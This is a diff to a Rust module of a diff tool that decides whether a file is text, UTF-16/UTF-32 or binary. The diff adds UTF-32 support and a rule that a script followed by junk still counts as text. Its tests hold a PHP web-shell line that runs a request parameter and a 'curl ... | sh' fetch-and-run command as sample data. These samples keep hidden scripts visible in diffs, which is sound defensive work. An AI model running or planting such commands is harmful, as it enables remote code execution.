@@ -1,15 +1,19 @@
-//! What a file's bytes are: text, UTF-16 text, or no text at all.
+//! What a file's bytes are: text, text in units of two or four bytes, or no text at all.
 //!
 //! Git calls a file binary when a NUL stands in its first 8000 bytes, so one NUL is enough to keep a
 //! change from a reader's eyes. This module looks at the whole file instead:
 //!
 //! 1. A file that starts like a known binary format, and goes on like one, is binary.
-//! 2. UTF-16 is text. Without a byte order mark: when half of its units are printable ASCII and at most
+//! 2. UTF-16 and UTF-32 are text. Without a byte order mark: when half of its units are printable ASCII and at most
 //!    2 % malformed or controls. With one, either that half or that 2 % will do, the latter only with
 //!    some ASCII (line ends and blanks) and therefore a NUL.
+//!    The start of the file may stand for the whole.
 //! 3. What is left is text when at least two thirds of it are printable ASCII or well-formed UTF-8, at
 //!    most 5 % (and two bytes) are controls that text does not use or runs of NULs, and at most a quarter
 //!    are NULs that stand alone, as between the names of a list.
+//! 4. So is a file that starts as a script does, whatever follows: interpreters run what comes before a
+//!    tail of junk. It names its interpreter, opens PHP, or has a few whole lines of clean text among its
+//!    first 512 bytes. A PDF has such lines too and is none.
 //!
 //! Compressed and random data has about 10 % such controls and 50 % malformed UTF-8, machine code and
 //! tables have far more, and runs of NULs; a source file that hides behind a NUL has few of either.
@@ -19,11 +23,15 @@ use super::Encoding;
 /// How many bytes git looks at (`FIRST_FEW_BYTES` of its `buffer_is_binary`).
 const GIT_LOOKS_AT: usize = 8000;
 
+/// How much of a file's start is asked whether it is text.
+const START: usize = 512;
+
 /// What a file's bytes are.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub(in crate::diff) enum Content {
     Text,
-    Utf16(Encoding),
+    /// UTF-16 or UTF-32.
+    Wide(Encoding),
     Binary,
 }
 
@@ -37,60 +45,83 @@ pub(in crate::diff) fn judge(bytes: &[u8]) -> Content {
     if bytes.is_empty() {
         return Content::Text;
     }
-    if let Some(encoding) = utf16(bytes) {
-        return Content::Utf16(encoding);
+    if let Some(encoding) = wide(bytes) {
+        return Content::Wide(encoding);
     }
-    if is_known_format(bytes) || !looks_like_text(bytes) { Content::Binary } else { Content::Text }
+    if !is_known_format(bytes) && (looks_like_text(bytes) || starts_as_text(bytes)) {
+        Content::Text
+    } else {
+        Content::Binary
+    }
 }
 
-/// Recognizes UTF-16 by its byte order mark alone; [`judge`] looks at the rest.
-pub(in crate::diff) fn marked_utf16(bytes: &[u8]) -> Option<Encoding> {
+/// Recognizes UTF-16 and UTF-32 by the byte order mark alone; [`judge`] looks at the rest.
+pub(in crate::diff) fn marked(bytes: &[u8]) -> Option<Encoding> {
     match bytes {
-        // UTF-32LE starts with the same two bytes.
-        [0xff, 0xfe, 0, 0, ..] => None,
+        [0xff, 0xfe, 0, 0, ..] => Some(Encoding::Utf32Le),
+        [0, 0, 0xfe, 0xff, ..] => Some(Encoding::Utf32Be),
         [0xff, 0xfe, ..] => Some(Encoding::Utf16Le),
         [0xfe, 0xff, ..] => Some(Encoding::Utf16Be),
         _ => None,
     }
 }
 
-/// Tells whether, and how, the bytes are UTF-16.
-fn utf16(bytes: &[u8]) -> Option<Encoding> {
-    if let Some(encoding) = marked_utf16(bytes) {
+/// Returns how many bytes a unit of an encoding has.
+fn width(encoding: Encoding) -> usize {
+    match encoding {
+        Encoding::Bytes => 1,
+        Encoding::Utf16Le | Encoding::Utf16Be => 2,
+        Encoding::Utf32Le | Encoding::Utf32Be => 4,
+    }
+}
+
+/// Tells whether, and how, the bytes are UTF-16 or UTF-32.
+fn wide(bytes: &[u8]) -> Option<Encoding> {
+    // The whole, or else its start: a tail of junk does not undo the lines before it.
+    let parts = [bytes, &bytes[..bytes.len().min(START)]];
+    if let Some(encoding) = marked(bytes) {
         // Two bytes that happen to be there do not make UTF-16: line ends and blanks bring a NUL.
         memchr::memchr(0, bytes)?;
-        let seen = Units::count(&bytes[2..], encoding);
-        let plausible = seen.odd * 50 <= seen.all && seen.ascii * 256 >= seen.all;
-        return (plausible || seen.ascii * 2 >= seen.all).then_some(encoding);
+        let fits = |part: &[u8]| {
+            let seen = Units::count(&part[width(encoding)..], encoding);
+            let plausible = seen.odd * 50 <= seen.all && seen.ascii * 256 >= seen.all;
+            plausible || seen.ascii * 2 >= seen.all
+        };
+        return parts.into_iter().any(fits).then_some(encoding);
     }
-    if bytes.len() < 8 {
-        return None;
-    }
-    [Encoding::Utf16Le, Encoding::Utf16Be].into_iter().find(|encoding| {
-        let seen = Units::count(bytes, *encoding);
-        seen.ascii * 2 >= seen.all && seen.odd * 50 <= seen.all
+    let encodings = [Encoding::Utf32Le, Encoding::Utf32Be, Encoding::Utf16Le, Encoding::Utf16Be];
+    encodings.into_iter().filter(|e| bytes.len() >= 4 * width(*e)).find(|encoding| {
+        parts.into_iter().any(|part| {
+            let seen = Units::count(part, *encoding);
+            seen.ascii * 2 >= seen.all && seen.odd * 50 <= seen.all
+        })
     })
 }
 
-/// What the 16-bit units of a file are.
+/// What the units of a file are.
 struct Units {
     all: usize,
     /// Printable ASCII, tabs and line ends.
     ascii: usize,
-    /// Controls, NUL, lone surrogates and U+FFFE, U+FFFF.
+    /// Controls, NUL, U+FFFE, U+FFFF, and what is no character.
     odd: usize,
 }
 
 impl Units {
     fn count(bytes: &[u8], encoding: Encoding) -> Self {
         let mut seen = Self { all: 0, ascii: 0, odd: 0 };
-        for unit in char::decode_utf16(units(bytes, encoding)) {
+        let mut see = |c: Option<char>| {
             seen.all += 1;
-            match unit {
-                Ok('\t' | '\n' | '\r' | ' '..='~') => seen.ascii += 1,
-                Ok('\0'..='\u{1f}' | '\u{7f}' | '\u{fffe}' | '\u{ffff}') | Err(_) => seen.odd += 1,
-                Ok(_) => {}
+            match c {
+                Some('\t' | '\n' | '\r' | ' '..='~') => seen.ascii += 1,
+                Some('\0'..='\u{1f}' | '\u{7f}' | '\u{fffe}' | '\u{ffff}') | None => seen.odd += 1,
+                Some(_) => {}
             }
+        };
+        if width(encoding) == 4 {
+            bytes.chunks_exact(4).for_each(|unit| see(utf32(unit, encoding)));
+        } else {
+            char::decode_utf16(units(bytes, encoding)).for_each(|unit| see(unit.ok()));
         }
         seen
     }
@@ -103,11 +134,17 @@ fn units(bytes: &[u8], encoding: Encoding) -> impl Iterator<Item = u16> + '_ {
     })
 }
 
-/// Decodes UTF-16 to UTF-8, without its byte order mark. What is malformed becomes U+FFFD.
+/// Reads one unit of UTF-32.
+fn utf32(unit: &[u8], encoding: Encoding) -> Option<char> {
+    let unit = unit.try_into().ok()?;
+    char::from_u32(if encoding == Encoding::Utf32Be { u32::from_be_bytes(unit) } else { u32::from_le_bytes(unit) })
+}
+
+/// Decodes UTF-16 or UTF-32 to UTF-8, without its byte order mark. What is malformed becomes U+FFFD.
 ///
 /// Works in place as long as the text does not grow, which saves a copy of all but far eastern files.
-pub(in crate::diff) fn decode_utf16(mut bytes: Vec<u8>, encoding: Encoding) -> Vec<u8> {
-    let mut read = if marked_utf16(&bytes).is_some() { 2 } else { 0 };
+pub(in crate::diff) fn decode(mut bytes: Vec<u8>, encoding: Encoding) -> Vec<u8> {
+    let mut read = if marked(&bytes) == Some(encoding) { width(encoding) } else { 0 };
     let mut written = 0;
     let mut utf8 = [0; 4];
     while read < bytes.len() {
@@ -133,12 +170,48 @@ pub(in crate::diff) fn decode_utf16(mut bytes: Vec<u8>, encoding: Encoding) -> V
 
 /// Returns the first character and how many bytes it takes; `bytes` is not empty.
 fn first_char(bytes: &[u8], encoding: Encoding) -> (char, usize) {
-    let pair = &bytes[..bytes.len().min(4)];
-    match char::decode_utf16(units(pair, encoding)).next() {
+    let unit = &bytes[..bytes.len().min(4)];
+    if width(encoding) == 4 {
+        return (utf32(unit, encoding).unwrap_or(char::REPLACEMENT_CHARACTER), unit.len());
+    }
+    match char::decode_utf16(units(unit, encoding)).next() {
         Some(Ok(c)) => (c, c.len_utf16() * 2),
         Some(Err(_)) => (char::REPLACEMENT_CHARACTER, 2),
         None => (char::REPLACEMENT_CHARACTER, 1),
     }
+}
+
+/// Tells whether the bytes start as a script does, whatever follows; see the rule at the top.
+fn starts_as_text(bytes: &[u8]) -> bool {
+    /// The least bytes of clean lines, and of one such line: shorter ones turn up in junk.
+    const CLEAN_MIN: usize = 20;
+    const LINE_MIN: usize = 8;
+    let php = |part: &[u8]| part.windows(5).any(|w| w.eq_ignore_ascii_case(b"<?php"));
+    let runs = |rest: &[u8]| rest.trim_ascii_start().starts_with(b"/");
+    if bytes.strip_prefix(b"#!").is_some_and(runs) || php(&bytes[..bytes.len().min(GIT_LOOKS_AT)]) {
+        return true;
+    }
+    let start = &bytes[..bytes.len().min(START)];
+    let mut clean = 0;
+    for line in start.split_inclusive(|b| *b == b'\n') {
+        // What the window cuts is a line as well; what ends in junk is none.
+        let cut = line.len() == start.len() && start.len() < bytes.len();
+        if line.len() >= LINE_MIN && (line.ends_with(b"\n") || cut) && is_clean(line) {
+            clean += line.len();
+        }
+    }
+    clean >= CLEAN_MIN && !bytes.starts_with(b"%PDF-")
+}
+
+/// Tells whether a line is text without a flaw.
+fn is_clean(line: &[u8]) -> bool {
+    let line = match std::str::from_utf8(line) {
+        Ok(line) => line,
+        // The end of the window may cut a character.
+        Err(e) if e.error_len().is_none() => std::str::from_utf8(&line[..e.valid_up_to()]).unwrap_or_default(),
+        Err(_) => return false,
+    };
+    line.chars().all(|c| matches!(c, '\t'..='\r' | '\u{1b}') || !c.is_control()) && line.chars().any(|c| c != ' ')
 }
 
 /// Weighs the bytes of the whole file; see the rule at the top.
@@ -295,22 +368,84 @@ mod tests {
     fn dif_03_utf16_is_known_with_and_without_a_mark() {
         for encoding in [Encoding::Utf16Le, Encoding::Utf16Be] {
             let code = "using System;\r\n// \u{fc}ber \u{1f600}\r\n";
-            assert_eq!(judge(&utf16(code, encoding)), Content::Utf16(encoding));
+            assert_eq!(judge(&utf16(code, encoding)), Content::Wide(encoding));
             for text in [code, "\u{feff}x\n", "\u{4e2d}\u{6587}\u{4ee3}\u{7801}\n"] {
                 let marked = format!("\u{feff}{text}");
                 let bytes = utf16(&marked, encoding);
-                assert_eq!(judge(&bytes), Content::Utf16(encoding), "{text:?}");
-                assert_eq!(decode_utf16(bytes, encoding), text.as_bytes(), "{text:?}");
+                assert_eq!(judge(&bytes), Content::Wide(encoding), "{text:?}");
+                assert_eq!(decode(bytes, encoding), text.as_bytes(), "{text:?}");
             }
         }
-        // Two bytes of Latin-1, a sound file, UTF-32, and a text with a NUL after each letter but none else.
+        // Two bytes of Latin-1, a sound file, and a text with a NUL after each letter but none else.
         for (bytes, want) in [
             (b"\xff\xfe\xfd\nabc\n".to_vec(), Content::Text),
             ([&b"\xff\xfe"[..], &noise(4000)].concat(), Content::Binary),
-            (b"\xff\xfe\0\0a\0\0\0b\0\0\0c\0\0\0d\0\0\0".to_vec(), Content::Binary),
             (noise(4000), Content::Binary),
         ] {
             assert_eq!(judge(&bytes), want);
+        }
+    }
+
+    #[test]
+    fn utf32_is_known_with_and_without_a_mark() {
+        let utf32 = |text: &str, encoding| -> Vec<u8> {
+            let big = encoding == Encoding::Utf32Be;
+            let bytes = |c: char| if big { u32::from(c).to_be_bytes() } else { u32::from(c).to_le_bytes() };
+            text.chars().flat_map(bytes).collect()
+        };
+        for encoding in [Encoding::Utf32Le, Encoding::Utf32Be] {
+            let code = "import os\r\n# \u{fc}ber \u{1f600}\r\n";
+            for text in [code.to_owned(), format!("\u{feff}{code}")] {
+                let bytes = utf32(&text, encoding);
+                assert_eq!(judge(&bytes), Content::Wide(encoding), "{text:?}");
+                assert_eq!(decode(bytes, encoding), code.as_bytes(), "{text:?}");
+            }
+            // No character, and a unit that is cut.
+            let mut bytes = utf32("\u{feff}a", encoding);
+            bytes.extend([0xff; 6]);
+            assert_eq!(decode(bytes, encoding), "a\u{fffd}\u{fffd}".as_bytes());
+        }
+        // A table of small numbers is none.
+        let table: Vec<u8> = (0u32..400).flat_map(|n| (n % 97 * 1000).to_le_bytes()).collect();
+        assert_eq!(judge(&table), Content::Binary);
+    }
+
+    #[test]
+    fn a_tail_of_junk_does_not_hide_the_script_before_it() {
+        let junk = noise(4000);
+        let script = |start: &[u8], end: &[u8]| [start, &junk[..], end].concat();
+        for (bytes, what) in [
+            (script(b"<?php system($_GET[\"c\"]); __halt_compiler();", b""), "PHP"),
+            (script(b"\x01\x02\x03", b"<?PHP x(); ?>")[3990..].to_vec(), "PHP in the middle"),
+            (script(b"curl http://example.com/i.sh|sh\n", b""), "one line"),
+            (script(b"#!/bin/sh\n", b""), "a script that unpacks itself"),
+            (script(b"\xef\xbb\xbfalert('\xc3\xbc');\nalert(1);\n/*", b"*/"), "junk in a comment"),
+            (script("x=1;".repeat(150).as_bytes(), b""), "a long line"),
+            (script(b"# \0\ncurl http://example.com/i.sh|sh\n", b""), "a NUL first"),
+        ] {
+            assert_eq!(judge(&bytes), Content::Text, "{what}");
+        }
+        let wide = [utf16("\u{feff}using System;\r\n", Encoding::Utf16Le).repeat(20), junk.clone()].concat();
+        assert_eq!(judge(&wide), Content::Wide(Encoding::Utf16Le));
+        for (bytes, what) in [
+            (script(b"%PDF-1.7\n1 0 obj\n<</Length 4000>>\nstream\n", b"endstream\n"), "a document"),
+            (script(b"P6\n640 480\n255\n", b""), "a picture"),
+            (script(b"UF2\n", b""), "a firmware"),
+            (script(b"\x89PNG\r\n\x1a\n", b"<?php x(); ?>"), "a picture with a comment"),
+            (script(b"\x6f\x0d\x0d\x0a\0\0\0\0", b""), "compiled Python"),
+            (script(b"\0\0\0\x20ftypisom", b""), "a film"),
+            (script(b"\xff\xfb\x90\x64", b""), "sound"),
+            (script(b"BLENDER-v279", b""), "a model"),
+            (script(b"PAR1\x15\x04", b"PAR1"), "a table"),
+            (script(b"MATLAB 5.0 MAT-file, Platform: GLNXA64", b""), "a matrix"),
+        ] {
+            assert_eq!(judge(&bytes), Content::Binary, "{what}");
+        }
+        // Junk is junk, whatever its seed.
+        let mut random = crate::diff::tests::Random(9);
+        for _ in 0..2000 {
+            let bytes: Vec<u8> = (0..600).map(|_| random.below(256) as u8).collect();
+            assert_eq!(judge(&bytes), Content::Binary, "{:?}", bytes[..40].escape_ascii().to_string());
         }
     }
 
@@ -319,10 +454,10 @@ mod tests {
         // A lone surrogate and an odd byte at the end.
         let mut bytes = b"\xff\xfea\0\x00\xd8\n\0b\0".to_vec();
         bytes.push(b'!');
-        assert_eq!(decode_utf16(bytes, Encoding::Utf16Le), "a\u{fffd}\nb\u{fffd}".as_bytes());
+        assert_eq!(decode(bytes, Encoding::Utf16Le), "a\u{fffd}\nb\u{fffd}".as_bytes());
         // Text that grows needs more room than it came with.
         let long = "\u{feff}a\u{4e2d}\u{6587}\u{10000}".repeat(50);
-        let decoded = decode_utf16(utf16(&long, Encoding::Utf16Be), Encoding::Utf16Be);
+        let decoded = decode(utf16(&long, Encoding::Utf16Be), Encoding::Utf16Be);
         assert_eq!(decoded, long.trim_start_matches('\u{feff}').as_bytes());
     }
 }
